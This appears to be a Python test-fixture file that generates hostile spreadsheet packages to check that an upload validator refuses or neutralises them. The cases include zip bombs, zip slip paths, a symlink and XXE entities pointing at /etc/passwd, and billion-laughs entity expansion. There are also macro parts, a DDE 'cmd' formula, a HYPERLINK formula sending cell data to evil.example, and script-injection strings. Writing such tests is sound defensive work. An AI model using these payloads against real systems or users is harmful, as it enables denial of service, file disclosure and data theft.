"""Packages (.xlsx is a zip of XML) that unfold, climb, point outside or carry more than a table."""

import io
import stat
import struct
import zipfile

import openpyxl

BIG = 30_000_000
TYPES = '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/></Types>'


def sheet(rows=(("codigo", "nombre"), ("A-1", "Ana"), ("A-2", "Bea"))):
    book = openpyxl.Workbook()
    for line in rows:
        book.active.append(list(line))
    file = io.BytesIO()
    book.save(file)
    return file.getvalue()


def package(parts, method=zipfile.ZIP_DEFLATED):
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", method) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return file.getvalue()


def with_parts(change=None, add=None, rows=None):
    """A good sheet with some parts changed or added: name → bytes, or name → function of the bytes."""
    parts = {}
    with zipfile.ZipFile(io.BytesIO(sheet(rows) if rows else sheet())) as good:
        parts = {name: good.read(name) for name in good.namelist()}
    for name, made in (change or {}).items():
        parts[name] = made(parts[name]) if callable(made) else made
    return package({**parts, **(add or {})})


SHEET = "xl/worksheets/sheet1.xml"
BOOK = "xl/workbook.xml"
ROWS = b"<sheetData>%s</sheetData>"


def data(rows):
    """The sheet's part with other rows."""
    return lambda content: content[: content.index(b"<sheetData")] + ROWS % rows + content[content.index(b"</sheetData>") + 12 :]


def text_cell(place, text):
    return b'<c r="%s" t="inlineStr"><is><t>%s</t></is></c>' % (place, text)


def doctype(definition):
    return lambda content: content.replace(b"<worksheet", b"<!DOCTYPE worksheet [" + definition + b"]><worksheet", 1)


LAUGHS = b'<!ENTITY a "ha">' + b"".join(b'<!ENTITY %c "%s">' % (98 + n, b"&%c;" % (97 + n) * 10) for n in range(9))
OUTSIDE = b'<!ENTITY x SYSTEM "file:///etc/passwd">'


def late_doctype(content):
    return b"<!--" + b" " * 5_000 + b"-->" + doctype(LAUGHS)(content.partition(b"?>")[2] if content.startswith(b"<?xml") else content)


def in_other_letters(letters):
    def change(content):
        text = content.decode().partition("?>")[2] if content.startswith(b"<?xml") else content.decode()
        return f'<?xml version="1.0" encoding="{letters}"?>'.encode(letters) + text.replace("<worksheet", "<!DOCTYPE worksheet [<!ENTITY a 'b'>]><worksheet", 1).encode(letters)

    return change


def under(name, change):
    """The sheet changed, in a part of another name to which the book points."""
    return with_parts({
        "xl/_rels/workbook.xml.rels": lambda content: content.replace(b"worksheets/sheet1.xml", name.removeprefix("xl/").encode()),
        "[Content_Types].xml": lambda content: content.replace(SHEET.encode(), name.encode()),
    }, add={name: change(sheet_part())})


def sheet_part():
    with zipfile.ZipFile(io.BytesIO(sheet())) as good:
        return good.read(SHEET)


def nested():
    inner = package({"a.txt": b"0" * BIG})
    for _level in range(5):
        inner = package({"inner.zip": inner})
    return inner


def linked():
    file = io.BytesIO(sheet())
    with zipfile.ZipFile(file, "a") as archive:
        part = zipfile.ZipInfo("xl/link.xml")
        part.external_attr = (stat.S_IFLNK | 0o777) << 16
        archive.writestr(part, "/etc/passwd")
    return file.getvalue()


def lying(content):
    """The list of parts says that the sheet is small; its bytes say otherwise."""
    changed = bytearray(content)
    at = changed.rfind(b"PK\x01\x02", 0, changed.rfind(SHEET.encode()))
    struct.pack_into("<I", changed, at + 24, 100)
    return bytes(changed)


def locked():
    changed = bytearray(sheet())
    at = changed.find(b"PK\x01\x02")
    while at >= 0:
        struct.pack_into("<H", changed, at + 8, 1)
        at = changed.find(b"PK\x01\x02", at + 4)
    return bytes(changed)


def twice():
    file = io.BytesIO(sheet())
    with zipfile.ZipFile(file, "a") as archive:
        archive.writestr(SHEET.upper(), "<x/>")
    return file.getvalue()


def overlapping():
    """Many names for the same packed bytes: a small file that unfolds many times."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/workbook.xml", "<x/>")
        archive.writestr("xl/worksheets/sheet1.xml", b"0" * 4_000_000)
        first = archive.infolist()[-1]
        for n in range(2, 300):
            copy = zipfile.ZipInfo(f"xl/worksheets/sheet{n}.xml")
            for slot in ("CRC", "compress_size", "file_size", "header_offset", "compress_type"):
                setattr(copy, slot, getattr(first, slot))
            archive.filelist.append(copy)
        archive._didModify = True
    return file.getvalue()


def many_rows():
    """More rows than a register has, each different, so that the packing looks like that of an honest sheet."""
    return with_parts({SHEET: data(b"".join(b"<row><c><v>%d</v></c></row>" % (n * 7919) for n in range(400_000)))})


TEXTS = '<Override PartName="/%s" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>'


def also_a_sheet():
    """The list of the book, which is read whole, lies among the sheets and is declared as one of them as well."""
    place = "xl/worksheets/book.xml"
    said = f'<Override PartName="/{place}" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>'.encode()
    with zipfile.ZipFile(io.BytesIO(sheet())) as good:
        whole = good.read(BOOK)
    return with_parts(
        {"[Content_Types].xml": lambda content: content.replace(BOOK.encode(), place.encode()).replace(b"</Types>", said)},
        add={place: whole.replace(b"<sheets>", LIKE_ROWS + b"<sheets>")},
    )


def many_texts(part="xl/sharedStrings.xml", text=b"<si><t>%040d</t></si>", number=1_500_000):
    """The texts of a book are read whole: more of them than the memory should hold, in a part of any name."""

    def make():
        texts = b"".join(text % n for n in range(number))
        named = lambda content: content.replace(b"</Types>", (TEXTS % part).encode())  # noqa: E731
        whole = b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">' + texts + b"</sst>"
        return with_parts({part: whole, "[Content_Types].xml": named})

    return make


LONG = b"x" * 200_000
HEAD = b"<row>" + text_cell(b"A1", b"codigo") + text_cell(b"B1", b"nombre") + b"</row>"
FAR = b'<row><c r="A2"><v>1</v></c><c r="XFD2"><v>1</v></c></row>'
ODD_SIGNS = b"<row>" + text_cell(b"A2", b"A_x0000_1") + text_cell(b"B2", "\u202eanA".encode()) + b"</row>"
MANY_NUMBERS = b"<x>%s</x>" % b"".join(b"<y>%d</y>" % (n * 7919) for n in range(400_000))
LIKE_ROWS = MANY_NUMBERS.replace(b"99</y>", b"99</y><row/>")
OTHER_BOOK = '<externalLink xmlns="x"><externalBook r="\\\\evil.example\\share\\a.xlsx"/></externalLink>'


def rows(content):
    return lambda: with_parts({SHEET: data(content)})


CASES = {
    "bomb": ("registro.xlsx", lambda: with_parts(add={"xl/worksheets/sheet2.xml": b"0" * BIG * 3}), "refused"),
    "bomb in the shared texts": ("registro.xlsx", many_texts(text=b"<si><t>%d" + b"x" * 30_000 + b"</t></si>", number=6_000), "refused"),
    "bomb in texts under another name": ("registro.xlsx", many_texts("xl/texts.txt"), "refused"),
    "bomb in texts that look like rows": ("registro.xlsx", many_texts("xl/worksheets/texts.xml", b"<si><t>%d</t><row/></si>"), "refused"),
    "bomb of short texts": ("registro.xlsx", many_texts(text=b"<si><t>%d</t></si>"), "refused"),
    "bomb in the styles": ("registro.xlsx", lambda: with_parts({"xl/styles.xml": lambda c: c.replace(b"<cellXfs", b"<!--" + b" " * 9_000_000 + b"--><cellXfs", 1)}), "refused"),
    "bomb in a part among the sheets": ("registro.xlsx", lambda: with_parts(add={"xl/worksheets/comments1.xml": LIKE_ROWS}), "refused"),
    "bomb in the relations of a sheet": ("registro.xlsx", lambda: with_parts(add={"xl/worksheets/_rels/sheet1.xml.rels": LIKE_ROWS}), "refused"),
    "book that says it is a sheet too": ("registro.xlsx", also_a_sheet, "refused"),
    "bomb in the list of parts": ("registro.xlsx", lambda: with_parts({"[Content_Types].xml": lambda c: c + b" " * BIG * 4}), "refused"),
    "bomb in a part called XML": ("registro.xlsx", lambda: with_parts(add={"xl/theme/theme2.XML": MANY_NUMBERS}), "refused"),
    "400,000 rows": ("registro.xlsx", many_rows, "refused"),
    "bomb behind bomb": ("registro.xlsx", nested, "refused"),
    "bomb called CSV": ("registro.csv", lambda: package({"a.csv": b"0" * BIG}), "refused"),
    "names that overlap": ("registro.xlsx", overlapping, "refused"),
    "size that lies": ("registro.xlsx", lambda: lying(with_parts({SHEET: data(b"<row><c><v>1</v></c></row>" * 300_000)})), "refused"),
    "zip slip": ("registro.xlsx", lambda: with_parts(add={"../../../../tmp/evil.xml": "<x/>"}), "refused"),
    "zip slip of Windows": ("registro.xlsx", lambda: with_parts(add={"..\\..\\evil.xml": "<x/>"}), "refused"),
    "absolute name": ("registro.xlsx", lambda: with_parts(add={"/etc/cron.d/evil": "x"}), "refused"),
    "drive name": ("registro.xlsx", lambda: with_parts(add={"C:/evil.xml": "<x/>"}), "refused"),
    "link to the outside": ("registro.xlsx", linked, "refused"),
    "the same part twice": ("registro.xlsx", twice, "refused"),
    "5,000 parts": ("registro.xlsx", lambda: with_parts(add={f"xl/media/{n}.xml": "<x/>" for n in range(5_000)}), "refused"),
    "another way of packing": ("registro.xlsx", lambda: package({BOOK: "<x/>", SHEET: "0" * 1000}, zipfile.ZIP_LZMA), "refused"),
    "locked with a password": ("registro.xlsx", locked, "refused"),
    "macros": ("registro.xlsm", lambda: with_parts(add={"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0"}), "refused"),
    "macros called XLSX": ("registro.xlsx", lambda: with_parts(add={"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0"}), "refused"),
    "macros by type": ("registro.xlsx", lambda: with_parts({"[Content_Types].xml": lambda c: c.replace(b"sheet.main+xml", b"sheet.macroEnabled.main+xml")}), "refused"),
    "text document with macros": ("registro.docm", lambda: package({"word/document.xml": "<x/>", "word/vbaProject.bin": "x"}), "refused"),
    "text document called XLSX": ("registro.xlsx", lambda: package({"word/document.xml": "<x/>"}), "refused"),
    "LibreOffice sheet": ("registro.xlsx", lambda: package({"mimetype": "application/vnd.oasis.opendocument.spreadsheet"}), "refused"),
    "Java archive": ("registro.xlsx", lambda: package({"META-INF/MANIFEST.MF": "Main-Class: Evil"}), "refused"),
    "outside entity": ("registro.xlsx", lambda: with_parts({SHEET: doctype(OUTSIDE)}), "refused"),
    "outside entity in the book": ("registro.xlsx", lambda: with_parts({BOOK: lambda c: b"<!DOCTYPE x [" + OUTSIDE + b"]>" + c}), "refused"),
    "outside entity in a relation": ("registro.xlsx", lambda: with_parts({"xl/_rels/workbook.xml.rels": lambda c: b"<!DOCTYPE x [" + OUTSIDE + b"]>" + c}), "refused"),
    "billion laughs": ("registro.xlsx", lambda: with_parts({SHEET: doctype(LAUGHS)}), "refused"),
    "laughs after 5,000 blanks": ("registro.xlsx", lambda: with_parts({SHEET: late_doctype}), "refused"),
    "laughs in UTF-16": ("registro.xlsx", lambda: with_parts({SHEET: in_other_letters("utf-16")}), "refused"),
    "laughs in UTF-16 without its mark": ("registro.xlsx", lambda: with_parts({SHEET: in_other_letters("utf-16-le")}), "refused"),
    "laughs in a part of another name": ("registro.xlsx", lambda: under("xl/worksheets/sheet1.dat", doctype(LAUGHS)), "refused"),
    "laughs in a picture": ("registro.xlsx", lambda: under("xl/media/image1.svg", doctype(LAUGHS)), "refused"),
    "laughs in EBCDIC": ("registro.xlsx", lambda: with_parts({SHEET: in_other_letters("cp500")}), "refused"),
    "a row of a million cells": ("registro.xlsx", lambda: with_parts({SHEET: data(b'<row r="1">' + b"<c><v>1</v></c>" * 1_000_000 + b"</row>")}), "refused"),
    "cells 10,000 deep": ("registro.xlsx", lambda: with_parts({SHEET: data(b"<row>" + b"<c>" * 600_000 + b"</c>" * 600_000 + b"</row>")}), "refused"),
    "a cell of 200,000 letters": ("registro.xlsx", rows(HEAD + b"<row>" + text_cell(b"A2", LONG) + b"</row>"), "refused"),
    "cells at the far end": ("registro.xlsx", rows(HEAD + FAR * 2_000), "neutral"),
    "a size of its own of a billion": ("registro.xlsx", lambda: with_parts({SHEET: lambda c: c.replace(b'ref="A1:B3"', b'ref="A1:XFD1048576"', 1)}), "neutral"),
    "formulas": ("registro.xlsx", lambda: sheet((("codigo", "nombre"), ("A-1", "=cmd|' /C calc'!A0"), ("A-2", '=HYPERLINK("http://evil.example/?"&A2)'))), "neutral"),
    "links to another book": ("registro.xlsx", lambda: with_parts(add={"xl/externalLinks/externalLink1.xml": OTHER_BOOK}), "neutral"),
    "embedded object": ("registro.xlsx", lambda: with_parts(add={"xl/embeddings/oleObject1.bin": b"MZ" + b"\0" * 500}), "neutral"),
    "markup in the cells": ("registro.xlsx", lambda: sheet((("codigo", "nombre"), ("A-1", "<script>alert(1)</script>"), ("A-2", "{{ 7*7 }}"))), "neutral"),
    "control signs in the cells": ("registro.xlsx", rows(HEAD + ODD_SIGNS), "neutral"),
    "cut in the middle": ("registro.xlsx", lambda: sheet()[: len(sheet()) // 2], "refused"),
    "cut at the end": ("registro.xlsx", lambda: sheet()[:-30], "refused"),
    "bytes turned": ("registro.xlsx", lambda: bytes(b ^ 255 if 300 < n < 400 else b for n, b in enumerate(sheet())), "refused"),
    "no sheet inside": ("registro.xlsx", lambda: package({BOOK: "<x/>", "[Content_Types].xml": TYPES}), "refused"),
    "zip of nothing": ("registro.xlsx", lambda: package({}), "refused"),
}  # fmt: skip
